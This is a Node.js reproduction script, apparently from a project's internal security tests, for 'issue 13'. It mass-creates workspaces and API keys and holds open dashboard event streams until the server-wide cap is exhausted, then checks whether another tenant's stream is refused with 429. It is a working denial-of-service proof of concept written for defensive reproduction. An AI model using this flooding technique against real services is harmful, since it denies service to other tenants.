// Third attack on issue 13 (dashboard SSE caps): the per-workspace cap (8) does not bound one account.
// A personal access token creates workspaces without limit (workspaces/create) and an API key in each
// (api_keys/create); 32 workspaces x 8 streams fill the server-wide 256, and every other tenant's
// dashboard (here the banner's workspace) gets 429 dashboard_streams_limit_reached for as long as the
// attacker keeps the sockets open.
// Usage: node scripts/attack-repro-13/third/sse-many-workspaces.mjs http://127.0.0.1:PORT <PAT seam_at…> <victim API key>
import http from 'node:http';
const [base, pat, victimKey] = process.argv.slice(2);
const post = async (path, token, body = {}, extra = {}) => {
  const r = await fetch(base + path, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...extra }, body: JSON.stringify(body) });
  return { status: r.status, body: await r.json() };
};
const agent = new http.Agent({ keepAlive: true, maxSockets: Infinity });
const openStream = (key) => new Promise((resolve) => {
  const req = http.get(`${base}/dashboard/events`, { agent, headers: { authorization: `Bearer ${key}` } }, (res) => { resolve({ status: res.statusCode, req }); res.resume(); });
  req.on('error', () => resolve({ status: 'error', req }));
});
const held = [];
let opened = 0, workspaces = 0;
for (let w = 0; w < 33; w++) {
  const ws = await post('/workspaces/create', pat, { name: `flood ${w}` });
  if (ws.status !== 200) { console.log('workspaces/create', ws.status, JSON.stringify(ws.body).slice(0, 200)); break; }
  workspaces++;
  const key = await post('/api_keys/create', pat, { name: 'k' }, { 'seam-workspace': ws.body.workspace.workspace_id });
  if (key.status !== 200) { console.log('api_keys/create', key.status, JSON.stringify(key.body).slice(0, 200)); break; }
  for (let i = 0; i < 8; i++) { const s = await openStream(key.body.api_key.token); held.push(s.req); if (s.status === 200) opened++; }
}
const victim = await openStream(victimKey);
let body = '';
console.log(JSON.stringify({ workspacesCreated: workspaces, attackerStreamsOpen: opened, victimDashboardStreamStatus: victim.status, expected: 200 }));
victim.req.destroy();
for (const r of held) r.destroy();
agent.destroy();
